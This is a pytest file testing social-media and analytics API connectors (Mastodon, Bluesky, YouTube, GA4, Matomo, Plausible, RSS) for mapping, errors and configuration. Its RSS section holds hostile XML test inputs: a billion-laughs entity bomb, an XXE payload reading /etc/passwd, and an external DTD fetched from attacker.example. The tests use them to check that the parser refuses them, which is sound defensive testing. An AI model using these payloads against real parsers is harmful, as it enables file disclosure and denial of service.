"""Source-specific mapping rules (the shared contract is in test_api_contract.py)."""

from __future__ import annotations

import base64
import datetime as dt
import json

import pytest
from responses import matchers

from connectors.api import bluesky, ga4, mastodon, matomo, rss, youtube
from connectors.api.base import PullContext, build_config, html_to_text
from connectors.errors import ConfigError, TransientError
from tests.fixtures_api import helpers as h
from tests.fixtures_api.scenarios import NOW, TW_FEED, load, raw, scenarios

rsps, fake_clock, no_network = h.rsps, h.fake_clock, h.no_network  # fixtures
SC = scenarios()


def rows_of(mod, name, rsps, clock, state=None):
    sc = SC[name]
    sc.add_pull(rsps)
    cfg = mod.from_settings(sc.settings, sc.env)
    out: dict[str, list] = {}
    for p in mod.read(cfg, state or {}, PullContext(client=h.client_factory(clock)(name), now=NOW)):
        out.setdefault(p.stream, []).extend(p.rows)
    return out


# --------------------------------------------------------------------------- Mastodon


def test_mastodon_mapping(rsps, fake_clock):
    out = rows_of(mastodon, "mastodon", rsps, fake_clock)
    [aud] = out["audience"]
    assert aud == {"date": NOW.date(), "platform": "mastodon", "account": "boussole", "followers": 1234,
                   "source_format": "api_mastodon"}
    posts = {p["post_id"]: p for p in out["posts"]}
    assert "111000000000000001" not in posts  # older than the first-pull window: pagination stopped
    p = posts["112000000000000003"]
    assert (p["reactions"], p["shares"], p["comments"], p["engagements"]) == (30, 9, 5, 44)
    assert p["text"] == "Nouvelle fonction : le journal d'actions. #boussole"
    assert posts["112000000000000002"]["post_type"] == "reply"
    ments = {m["mention_id"]: m for m in out["mentions"]}
    # the account's own status in the hashtag timeline is not a mention; no duplicates
    assert set(ments) == {"mastodon:mastodon.example:112000000000000101", "mastodon:mastodon.example:112000000000000102",
                          "mastodon:mastodon.example:112000000000000103"}
    m = ments["mastodon:mastodon.example:112000000000000101"]
    assert m["text"] == "@boussole super outil, bravo <3" and m["author"] == "claire@social.example"
    assert m["published_at"] == dt.datetime(2026, 3, 23, 11, 20, tzinfo=dt.timezone.utc)
    assert ments["mastodon:mastodon.example:112000000000000103"]["text"].startswith("[long] ")


def test_mastodon_without_token_reads_hashtags_only(rsps, fake_clock):
    sc = SC["mastodon"]
    for s in sc.pull[:3] + sc.pull[4:]:
        s.add(rsps)
    cfg = mastodon.from_settings(sc.settings, {})
    rows = [r for p in mastodon.read(cfg, {}, PullContext(client=h.client_factory(fake_clock)("m"), now=NOW))
            if p.stream == "mentions" for r in p.rows]
    assert len(rows) == 2
    assert "Authorization" not in rsps.calls[-1].request.headers


def test_mastodon_unknown_account(rsps, fake_clock):
    rsps.add("GET", "https://mastodon.example/api/v1/accounts/lookup", status=404, json={"error": "Record not found"})
    cfg = mastodon.from_settings({"instance": "mastodon.example", "account": "@nobody"}, {})
    with pytest.raises(ConfigError, match="not found"):
        mastodon.check(cfg, PullContext(client=h.client_factory(fake_clock)("m"), now=NOW))


def test_html_to_text():
    assert html_to_text("<p>a&nbsp;b</p><p>c &amp; d</p>") == "a b c & d"
    assert html_to_text("<script>x</script>ok") == "ok"
    assert html_to_text(None) is None and html_to_text("<p></p>") is None


# --------------------------------------------------------------------------- Bluesky


def test_bluesky_mapping(rsps, fake_clock):
    out = rows_of(bluesky, "bluesky", rsps, fake_clock)
    assert out["audience"][0]["followers"] == 321
    posts = {p["post_id"].rsplit("/", 1)[1]: p for p in out["posts"]}
    assert set(posts) == {"3lkq2a", "3lkp7b", "3lkn4c"}  # no repost of others, nothing older than the window
    assert posts["3lkq2a"]["engagements"] == 25 + 6 + 3 + 1 and posts["3lkq2a"]["shares"] == 7
    assert posts["3lkq2a"]["url"] == "https://bsky.app/profile/boussole.bsky.social/post/3lkq2a"
    assert posts["3lkn4c"]["post_type"] == "reply"
    ments = out["mentions"]
    assert {m["lang"] for m in ments} == {"fr", "en"}
    assert all(m["mention_id"].startswith("bluesky:at://did:plc:julie") for m in ments)
    search = [c.request for c in rsps.calls if "searchPosts" in c.request.url][0]
    assert search.headers["Authorization"].startswith("Bearer ")
    assert "since=2025-12-25" in search.url and "sort=latest" in search.url


def test_bluesky_expired_session_is_config_error(rsps, fake_clock):
    rsps.add("GET", "https://public.api.bsky.app/xrpc/app.bsky.actor.getProfile", status=400,
             json={"error": "ExpiredToken", "message": "Token has expired"})
    cfg = bluesky.from_settings({"handle": "x.bsky.social"}, {})
    with pytest.raises(ConfigError):
        bluesky.check(cfg, PullContext(client=h.client_factory(fake_clock)("b"), now=NOW))


# --------------------------------------------------------------------------- YouTube


def test_youtube_mapping_and_key_in_header(rsps, fake_clock):
    out = rows_of(youtube, "youtube", rsps, fake_clock)
    assert out["audience"][0] == {"date": NOW.date(), "platform": "youtube", "account": "@googledevelopers",
                                  "followers": 1927873, "source_format": "api_youtube"}
    v = {p["post_id"]: p for p in out["posts"]}
    assert set(v) == {"dQw4w9WgXcQ", "M7lc1UVf-VE", "aqz-KE-bpKQ"}
    assert (v["dQw4w9WgXcQ"]["views"], v["dQw4w9WgXcQ"]["reactions"], v["dQw4w9WgXcQ"]["comments"]) == (15234, 812, 97)
    for c in rsps.calls:
        assert "key=" not in c.request.url and c.request.headers["X-Goog-Api-Key"]


def test_youtube_hidden_subscribers_are_null_not_zero(rsps, fake_clock):
    ch = load("youtube_channels.json")
    ch["items"][0]["statistics"]["hiddenSubscriberCount"] = True
    del ch["items"][0]["contentDetails"]
    rsps.add("GET", "https://www.googleapis.com/youtube/v3/channels", json=ch)
    cfg = youtube.from_settings({"channel": "UC_x5XG1OV2P6uZZ5FSM9Ttw"}, {"YOUTUBE_API_KEY": "k-123456"})
    pages = list(youtube.read(cfg, {}, PullContext(client=h.client_factory(fake_clock)("y"), now=NOW)))
    assert pages[0].rows[0]["followers"] is None


@pytest.mark.parametrize("status,reason,exc", [(400, "keyInvalid", ConfigError), (403, "quotaExceeded", TransientError),
                                               (403, "forbidden", ConfigError)])
def test_youtube_error_reasons(rsps, fake_clock, status, reason, exc):
    rsps.add("GET", "https://www.googleapis.com/youtube/v3/channels", status=status,
             json={"error": {"code": status, "message": "x", "errors": [{"reason": reason, "domain": "youtube"}]}})
    cfg = youtube.from_settings({"channel": "@google"}, {"YOUTUBE_API_KEY": "k-123456"})
    client = h.client_factory(fake_clock)("y")
    with pytest.raises(exc):
        youtube.check(cfg, PullContext(client=client, now=NOW))
    assert "forHandle=%40google" in rsps.calls[0].request.url


# --------------------------------------------------------------------------- GA4


needs_crypto = pytest.mark.skipif("ga4" not in SC, reason="cryptography is not installed")


@needs_crypto
def test_ga4_jwt_is_rs256_signed_with_the_service_account_key(rsps, fake_clock):
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding

    out = rows_of(ga4, "ga4", rsps, fake_clock)
    token_req = rsps.calls[0].request
    form = dict(x.split("=", 1) for x in token_req.body.split("&"))
    assert form["grant_type"] == "urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer"
    jwt = form["assertion"]
    head, claims, sig = jwt.split(".")
    dec = lambda s: base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))  # noqa: E731
    assert json.loads(dec(head))["alg"] == "RS256"
    c = json.loads(dec(claims))
    assert c["scope"] == "https://www.googleapis.com/auth/analytics.readonly"
    assert c["aud"] == "https://oauth2.googleapis.com/token" and c["exp"] - c["iat"] == 3600
    assert c["iat"] == int(NOW.timestamp())
    info = json.loads(SC["ga4"].env["GA4_CREDENTIALS_JSON"])
    pub = serialization.load_pem_private_key(info["private_key"].encode(), None).public_key()
    pub.verify(dec(sig), f"{head}.{claims}".encode(), padding.PKCS1v15(), hashes.SHA256())  # raises if invalid
    report = rsps.calls[1].request
    assert report.headers["Authorization"] == "Bearer ya29.c.b0AXv0zTFAKEACCESSTOKEN-ga4-7f3e"
    body = json.loads(report.body)
    assert [d["name"] for d in body["dimensions"]] == ["date", "sessionSource", "sessionMedium", "sessionCampaignName"]
    assert [m["name"] for m in body["metrics"]] == ["sessions", "totalUsers", "keyEvents", "totalRevenue"]
    assert body["dateRanges"] == [{"startDate": "2025-12-25", "endDate": "2026-03-25"}]
    assert json.loads(rsps.calls[2].request.body)["offset"] == 2
    t = {(r["date"], r["source"]): r for r in out["traffic"]}
    r = t[(dt.date(2026, 3, 24), "t.co")]
    assert (r["sessions"], r["users"], r["conversions"], r["revenue"], r["campaign"]) == (42, 38, 3.0, 129.5, "printemps_2026")


@needs_crypto
def test_ga4_lookback_window_from_cursor(rsps, fake_clock):
    sc = SC["ga4"]
    sc.add_pull(rsps)
    cfg = ga4.from_settings({**sc.settings, "lookback_days": 3}, sc.env)
    list(ga4.read(cfg, {"traffic": {"last_date": "2026-03-20"}}, PullContext(client=h.client_factory(fake_clock)("g"), now=NOW)))
    assert json.loads(rsps.calls[1].request.body)["dateRanges"] == [{"startDate": "2026-03-17", "endDate": "2026-03-25"}]


def test_ga4_bad_key_file(tmp_path):
    cfg = ga4.from_settings({"property_id": "1"}, {"GA4_CREDENTIALS_FILE": str(tmp_path / "missing.json")})
    with pytest.raises(ConfigError, match="not found"):
        ga4.service_account(cfg)
    (tmp_path / "k.json").write_text('{"type": "authorized_user"}')
    cfg = ga4.from_settings({"property_id": "1"}, {"GA4_CREDENTIALS_FILE": str(tmp_path / "k.json")})
    with pytest.raises(ConfigError, match="client_email"):
        ga4.service_account(cfg)
    with pytest.raises(ConfigError, match="GA4_CREDENTIALS_FILE"):
        ga4.from_settings({"property_id": "1"}, {})


@needs_crypto
def test_ga4_invalid_grant_is_config_error(rsps, fake_clock):
    rsps.add("POST", "https://oauth2.googleapis.com/token", status=400,
             json={"error": "invalid_grant", "error_description": "Invalid JWT Signature."})
    sc = SC["ga4"]
    cfg = ga4.from_settings(sc.settings, sc.env)
    with pytest.raises(ConfigError, match="Invalid JWT Signature"):
        ga4.check(cfg, PullContext(client=h.client_factory(fake_clock)("g"), now=NOW))


# --------------------------------------------------------------------------- Matomo


def test_matomo_mapping_and_token_in_body(rsps, fake_clock):
    out = rows_of(matomo, "matomo", rsps, fake_clock)
    rows = out["traffic"]
    direct = [r for r in rows if r.get("source") == "(direct)" and r["date"] == dt.date(2026, 3, 24)][0]
    assert (direct["medium"], direct["sessions"], direct["users"], direct["conversions"]) == ("(none)", 80, 70, 2.0)
    masto = [r for r in rows if r.get("source") == "Mastodon"][0]
    assert masto["medium"] == "social"
    camp = [r for r in rows if r.get("campaign") == "printemps_2026"]
    assert len(camp) == 2 and all(r.get("source") is None for r in camp)
    for c in rsps.calls:
        assert "token_auth" not in c.request.url and "token_auth=" in c.request.body
        assert "period=day" in c.request.body and "date=2025-12-25%2C2026-03-25" in c.request.body


def test_matomo_error_answer_with_http_200_is_config_error(rsps, fake_clock):
    rsps.add("POST", "https://stats.boussole.example/index.php",
             json={"result": "error", "message": "You can't access this resource as it requires 'view' access for the website id = 3."})
    cfg = matomo.from_settings(SC["matomo"].settings, SC["matomo"].env)
    with pytest.raises(ConfigError, match="view' access"):
        matomo.check(cfg, PullContext(client=h.client_factory(fake_clock)("m"), now=NOW))


# --------------------------------------------------------------------------- Plausible


def test_plausible_query_body(rsps, fake_clock):
    from connectors.api import plausible

    rsps.add("POST", "https://plausible.io/api/v2/query", json=load("plausible_query.json"),
             match=[matchers.json_params_matcher({
                 "site_id": "boussole.example", "metrics": ["visits", "visitors"],
                 "dimensions": ["time:day", "visit:utm_source", "visit:utm_medium", "visit:utm_campaign"],
                 "date_range": ["2026-03-18", "2026-03-25"], "pagination": {"offset": 0, "limit": 10000}})])
    cfg = plausible.from_settings({"site_id": "boussole.example"}, {"PLAUSIBLE_API_KEY": "pk-123456"})
    pages = list(plausible.read(cfg, {"traffic": {"last_date": "2026-03-25"}},
                                PullContext(client=h.client_factory(fake_clock)("p"), now=NOW)))
    rows = [r for p in pages for r in p.rows]
    assert rows[0]["source"] == "mastodon" and rows[0]["sessions"] == 31 and rows[0]["users"] == 27
    assert pages[-1].cursor == {"last_date": "2026-03-25"}


# --------------------------------------------------------------------------- RSS / Atom


def test_google_alerts_feed():
    rows = rss.parse_feed(raw("rss_google_alerts.xml"), "https://www.google.com/alerts/feeds/1/2", "Slack")
    assert len(rows) == 20
    r = [x for x in rows if x["mention_id"] == "google_alerts:8974135267215335962"][0]
    assert r["url"].startswith("https://www.aglobalmarketresearch.com/report-offers-prediction")
    assert "google.com" not in r["url"]
    assert r["text"].startswith("Report offers Prediction of Automotive Slack Market")
    assert "<b>" not in r["text"] and "&nbsp;" not in r["text"]
    assert r["author"] == "aglobalmarketresearch.com" and r["source"] == "google_alerts"
    assert r["published_at"] == dt.datetime(2019, 7, 10, 11, 53, 37, tzinfo=dt.timezone.utc)


def test_talkwalker_rss_feed():
    rows = rss.parse_feed(raw("rss_talkwalker.xml"), TW_FEED)
    a, b = rows
    assert a["mention_id"] == "talkwalker:tw-8f2a61c0" and a["author"] == "Marie Tremblay"
    assert a["text"] == ("Boussole, le tableau de bord qui parle ROI — Une jeune pousse montréalaise lance Boussole : "
                         "un outil pour savoir si les médias sociaux rapportent.")
    assert b["published_at"] == dt.datetime(2026, 3, 21, 8, 40, tzinfo=dt.timezone.utc)  # +0100 -> UTC
    assert b["author"] == "forum.example.ch"


@pytest.mark.parametrize("url,target", [
    ("https://www.google.com/url?rct=j&sa=t&url=https://ex.org/a%3Fb%3D1&ct=ga&cd=X&usg=Y", "https://ex.org/a?b=1"),
    ("https://www.google.fr/url?q=https://ex.fr/&sa=U", "https://ex.fr/"),
    ("https://ex.org/direct", "https://ex.org/direct"),
    ("https://www.google.com/search?url=https://ex.org", "https://www.google.com/search?url=https://ex.org"),
])
def test_unwrap_google_redirect(url, target):
    assert rss.unwrap_url(url) == target


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<rss><channel><item><title>&lol2;</title><pubDate>Mon, 23 Mar 2026 14:12:00 GMT</pubDate></item></channel></rss>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&xxe;</title></item></channel></rss>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd"><rss><channel/></rss>"""


@pytest.mark.parametrize("doc", [BOMB, XXE, EXTERNAL_DTD])
def test_entities_and_dtds_are_refused(doc, no_network):
    with pytest.raises(ConfigError, match="refused for safety"):
        rss.parse_feed(doc, "https://feeds.example/x")


def test_doctype_text_inside_cdata_is_fine():
    doc = (b'<rss><channel><item><title>t</title><description><![CDATA[<!DOCTYPE html><p>hi</p>]]></description>'
           b"<guid>g1</guid><pubDate>Mon, 23 Mar 2026 14:12:00 GMT</pubDate></item></channel></rss>")
    [r] = rss.parse_feed(doc, "https://feeds.example/x")
    assert r["text"] == "t — hi" and r["mention_id"] == "rss:g1"


def test_not_a_feed_is_transient():
    with pytest.raises(TransientError):
        rss.parse_feed(b"<html><body>maintenance</body></html>", "https://feeds.example/x")
    with pytest.raises(TransientError):
        rss.parse_feed(b"<rss><channel><item>", "https://feeds.example/x")


# --------------------------------------------------------------------------- configuration


def test_settings_then_env_fallback_and_env_suffix():
    env = {"MASTODON_INSTANCE": "https://env.example", "MASTODON_ACCOUNT": "envacct",
           "MASTODON_ACCESS_TOKEN": "default-token-1", "MASTODON_ACCESS_TOKEN_ACME": "acme-token-22"}
    cfg = mastodon.from_settings({"account": "fromsettings"}, env)
    assert (cfg.instance, cfg.account, cfg.access_token) == ("https://env.example", "fromsettings", "default-token-1")
    cfg = mastodon.from_settings({"env_suffix": "acme"}, env)
    assert cfg.access_token == "acme-token-22"
    assert "acme-token-22" not in repr(cfg)  # secrets never in repr
    cfg = mastodon.from_settings({"env_suffix": "other"}, env)
    assert cfg.access_token is None  # no fallback to another client's secret


def test_typed_settings():
    cfg = build_config(mastodon.Config, {"instance": "m.example", "account": "a", "hashtags": "one, #two", "lookback_days": "3",
                                         "enabled": "false"}, {})
    assert cfg.hashtags == ["one", "#two"] and cfg.lookback_days == 3 and cfg.enabled is False
    with pytest.raises(ConfigError, match="whole number"):
        build_config(mastodon.Config, {"instance": "m", "account": "a", "lookback_days": "soon"}, {})
